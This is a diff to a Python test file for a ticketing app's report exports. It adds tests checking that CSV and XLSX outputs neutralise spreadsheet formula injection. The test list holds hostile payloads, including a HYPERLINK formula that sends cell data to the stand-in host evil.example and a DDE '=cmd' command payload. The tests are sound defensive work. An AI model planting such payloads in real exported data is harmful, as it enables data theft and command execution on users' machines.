@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from onestop.compose import build_hub
 from onestop.hub.reporting import export_rows, report_input
-from onestop.printing.exports import to_csv, to_xlsx
+from onestop.printing.exports import COLUMNS, to_csv, to_xlsx
 from onestop.printing.report import render_report
 from onestop.settings import Settings
 from tests.clock import FakeClock, hanoi
@@ -86,3 +86,39 @@ def test_report_command_and_api(seeded, tmp_data, tmp_path):
     bad = subprocess.run([sys.executable, "-m", "onestop", "report", "--date", "2999-01-01",
                           "--out", str(out)], capture_output=True, text=True)
     assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+1+1", "-2+3",
+           "@SUM(1,2)", "\tTAB", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_exports_write_typed_reasons_as_text_never_formulas(seeded):
+    """Issue 13, finding 4: reasons starting with = + - @ landed in the outcome column as
+    formulas (stored as real formulas in the XLSX)."""
+    base = export_rows(seeded.store, DAY)[0]
+    rows = [{**base, "outcome": text, "officer": text} for text in HOSTILE]
+    table = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
+    outcome = [title for _, title in COLUMNS].index("Kết quả")
+    assert [r[outcome] for r in table[1:]] == ["'" + text for text in HOSTILE]
+    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
+    for r, text in enumerate(HOSTILE, start=2):
+        cell = sheet.cell(row=r, column=outcome + 1)
+        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")  # XML: CR→LF
+    numbers = [c.value for c in sheet[2] if isinstance(c.value, int | float)]
+    assert numbers  # numbers stay numbers
+
+
+def test_report_endpoint_exports_are_formula_free(live_hub):
+    from onestop.queue.operations import IssueRequest
+
+    store = live_hub.hub.store
+    ticket = store.issue(IssueRequest("2.000815")).ticket
+    with live_hub.client("reception") as rec:
+        assert rec.post(f"/api/tickets/{ticket.id}/cancel",
+                        json={"reason": HOSTILE[0]}).status_code == 200
+    with live_hub.client("supervisor") as sup:
+        text = sup.get("/api/report?format=csv").content.decode("utf-8-sig")
+        book = load_workbook(io.BytesIO(sup.get("/api/report?format=xlsx").content))
+    assert ",\"'=HYPERLINK(" in text
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == HOSTILE[0]]
+    assert cells and all(c.data_type == "s" for c in cells)
